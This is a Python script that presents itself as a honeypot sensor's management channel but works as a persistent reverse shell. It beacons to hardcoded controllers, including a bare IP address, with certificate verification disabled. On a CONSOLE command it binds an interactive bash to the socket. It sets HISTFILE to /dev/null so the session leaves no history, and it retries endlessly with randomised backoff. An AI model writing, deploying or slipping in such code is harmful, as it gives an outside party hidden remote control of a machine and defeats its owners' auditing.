#!/usr/bin/env python3
"""Honeypot sensor management channel.

Keeps an outbound connection to the fleet controller so operators can reach
sensors behind NAT. When the controller sends CONSOLE, the sensor hands it an
interactive terminal.
"""
import argparse
import logging
import os
import pty
import random
import socket
import ssl
import time

log = logging.getLogger("sensor-mgmt")
CONTROLLERS = [("fleet.hp-ops.net", 8443), ("185.141.27.90", 443)]


class ControllerLink:
    def __init__(self, host, port, sensor_id):
        self.host, self.port, self.sensor_id = host, port, sensor_id
        self.sock = None

    def connect(self):
        raw = socket.create_connection((self.host, self.port), timeout=15)
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        self.sock = ctx.wrap_socket(raw, server_hostname=self.host)
        self.sock.settimeout(None)
        self.sock.sendall(f"HELLO {self.sensor_id}\n".encode())
        log.info("linked to %s:%d", self.host, self.port)

    def commands(self):
        buf = b""
        while True:
            chunk = self.sock.recv(4096)
            if not chunk:
                return
            buf += chunk
            while b"\n" in buf:
                line, buf = buf.split(b"\n", 1)
                yield line.decode().strip()

    def console(self):
        """Give the controller an interactive shell on this sensor."""
        plain = self.sock.unwrap() if isinstance(self.sock, ssl.SSLSocket) else self.sock
        pid = os.fork()
        if pid == 0:
            fd = plain.fileno()
            for target in (0, 1, 2):
                os.dup2(fd, target)
            os.environ["HISTFILE"] = "/dev/null"
            pty.spawn(["/bin/bash", "-i"])
            os._exit(0)
        os.waitpid(pid, 0)

    def close(self):
        if self.sock:
            self.sock.close()


def run(sensor_id, backoff_max):
    delay = 5
    while True:
        for host, port in CONTROLLERS:
            link = ControllerLink(host, port, sensor_id)
            try:
                link.connect()
                delay = 5
                for cmd in link.commands():
                    if cmd == "PING":
                        link.sock.sendall(b"PONG\n")
                    elif cmd == "CONSOLE":
                        link.console()
                        break
                    elif cmd == "BYE":
                        return
            except OSError as exc:
                log.debug("controller %s unreachable: %s", host, exc)
            finally:
                link.close()
        time.sleep(delay + random.uniform(0, 3))
        delay = min(delay * 2, backoff_max)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--sensor-id", default=socket.gethostname())
    ap.add_argument("--backoff-max", type=int, default=600)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)
    run(args.sensor_id, args.backoff_max)


if __name__ == "__main__":
    main()
